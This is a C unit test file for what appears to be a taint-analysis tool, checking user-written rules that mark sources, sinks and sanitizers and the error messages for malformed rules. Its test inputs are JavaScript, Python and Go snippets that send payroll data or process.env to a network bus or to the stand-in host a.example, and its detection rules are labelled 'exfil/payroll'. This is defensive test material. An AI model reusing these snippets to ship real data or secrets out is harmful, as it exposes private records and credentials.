/* Rules of the user add sources, sinks and sanitizers; what they get wrong is told by its place. */
#include "read/js_case.h"
#include "read/user_rules.h"

static const char payroll[] =
	"; what the payroll module gives stays in the house\n"
	"((call_expression function: (member_expression property: (property_identifier) @name)) @source\n"
	"  (#eq? @name \"readSalaries\")\n"
	"  (#set! source file) (#set! behaviour \"exfil/payroll\"))\n"
	"((call_expression function: (member_expression object: (identifier) @object property: (property_identifier) @name)\n"
	"    arguments: (arguments . (_) . (_) @sink))\n"
	"  (#eq? @object \"bus\") (#match? @name \"^(publish|emit)$\")\n"
	"  (#set! sink net))\n"
	"((call_expression function: (identifier) @name) @sanitizer (#any-of? @name \"redact\" \"summarize\"))\n";

static void add(const char *name, const char *text)
{
	char error[256] = "";

	if (user_rules_add(str_of(name), str_of(text), error, sizeof(error)) != STATUS_OK)
		fail_msg("%s", error);
}

static bool flows(const char *text, const char *key)
{
	struct js_case *c = js_case_run(text);
	bool found = js_case_find(c, FACT_FLOW, key, NULL) != NULL;

	js_case_free(c);
	return found;
}

#define MODULES "const bus = require('house-bus'), payroll = require('house-payroll');\n"

static void own_sources_and_sinks_meet(void **state)
{
	(void)state;
	assert_false(flows(MODULES "const all = payroll.readSalaries(2024);\nbus.publish('x', all);", "file>net@exfil/payroll"));
	add("own.javascript.scm", payroll);
	assert_true(flows(MODULES "const all = payroll.readSalaries(2024);\nbus.publish('x', all);", "file>net@exfil/payroll"));
	assert_true(flows(MODULES "bus.emit('x', { rows: payroll.readSalaries(2024) });", "file>net@exfil/payroll"));
	/* with what is built in */
	assert_true(flows(MODULES "require('https').request('https://a.example/').end(payroll.readSalaries(2024));", "file>net@exfil/payroll"));
	assert_true(flows(MODULES "bus.publish('x', JSON.stringify(process.env));", "env>net"));
	user_rules_clear();
	assert_false(flows(MODULES "bus.publish('x', JSON.stringify(process.env));", "env>net"));
}

static void others_do_not(void **state)
{
	(void)state;
	add("own.javascript.scm", payroll);
	assert_false(flows(MODULES "bus.publish('x', payroll.readHolidays(2024));", NULL));
	assert_false(flows(MODULES "bus.subscribe('x', payroll.readSalaries(2024));", NULL));
	assert_false(flows(MODULES "bus.publish(payroll.readSalaries(2024), 'x');", NULL));
	assert_false(flows(MODULES "function redact(x) { return x; }\nbus.publish('x', redact(payroll.readSalaries(2024)));", NULL));
	user_rules_clear();
}

static void another_language(void **state)
{
	struct js_case *c;

	(void)state;
	add("python.scm", "((call function: (attribute attribute: (identifier) @name)) @source (#eq? @name \"read_salaries\") (#set! source file)"
		" (#set! behaviour \"exfil/payroll\"))\n");
	c = js_case_steps(LANGUAGE_PYTHON, STR_NONE,
		STR("import payroll, urllib.request\nurllib.request.urlopen('https://a.example/', data=payroll.read_salaries())\n"), 100000000);
	assert_non_null(js_case_find(c, FACT_FLOW, "file>net@exfil/payroll", NULL));
	js_case_free(c);
	user_rules_clear();
	add("pay.go.scm", "((call_expression function: (selector_expression field: (field_identifier) @name)) @source (#eq? @name \"ReadSalaries\")"
		" (#set! source file) (#set! behaviour \"exfil/payroll\"))\n");
	c = js_case_steps(LANGUAGE_GO, STR_NONE,
		STR("package a\nimport (\n\t\"net/http\"\n\t\"strings\"\n)\nfunc f() {\n\thttp.Post(\"https://a.example/\", \"a/b\", strings.NewReader(pay.ReadSalaries()))\n}\n"),
		100000000);
	assert_non_null(js_case_find(c, FACT_FLOW, "file>net@exfil/payroll", NULL));
	js_case_free(c);
	user_rules_clear();
}

static void mistakes_have_a_place(void **state)
{
	static const struct {
		const char *name, *text, *error;
	} rows[] = {
		{"x.javascript.scm", "(call_expression\n  function: (nothing) @source)", "x.javascript.scm:2:14: the language has no such node"},
		{"x.javascript.scm", "(call_expression\n  nothing: (_) @source)", ":2:3: the language has no such field"},
		{"x.javascript.scm", "; first\n(identifier) @source)", ":2:21: this is no query"},
		{"x.javascript.scm", "((identifier) @source (#eq? @other \"a\"))", "nothing is captured under this name"},
		{"x.javascript.scm", "\n\n((identifier) @source (#set! source secrets))", ":3:1: no kind of source: secrets"},
		{"x.javascript.scm", "((identifier) @sink (#set! sink nowhere))", ":1:1: no kind of sink: nowhere"},
		{"x.javascript.scm", "(identifier) @source", "a source needs its kind"},
		{"x.javascript.scm", "(identifier) @sink", "a sink needs its kind"},
		{"x.javascript.scm", "(identifier) @name", "a pattern captures @source, @sink or @sanitizer"},
		{"x.javascript.scm", "((identifier) @sanitizer (#near? @sanitizer \"a\"))", "no such predicate: near?"},
		{"x.javascript.scm", "((identifier) @sanitizer (#match? @sanitizer \"(a\"))", ":1:1: match?: "},
		{"x.javascript.scm", "((identifier) @source (#set! source env) (#set! behaviour \"Payroll\"))", "a behaviour is called group/name"},
		{"x.javascript.scm", "; nothing\n", "no pattern stands here"},
		{"x.cobol.scm", "(a) @source", "the name says no language"},
		{"rules", "(a) @source", "the name says no language"},
	};
	char error[256];

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		error[0] = '\0';
		if (user_rules_add(str_of(rows[i].name), str_of(rows[i].text), error, sizeof(error)) != STATUS_USAGE || !strstr(error, rows[i].error))
			fail_msg("%s: %s", rows[i].text, error);
		user_rules_clear();
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(own_sources_and_sinks_meet),
		cmocka_unit_test(others_do_not),
		cmocka_unit_test(another_language),
		cmocka_unit_test(mistakes_have_a_place),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
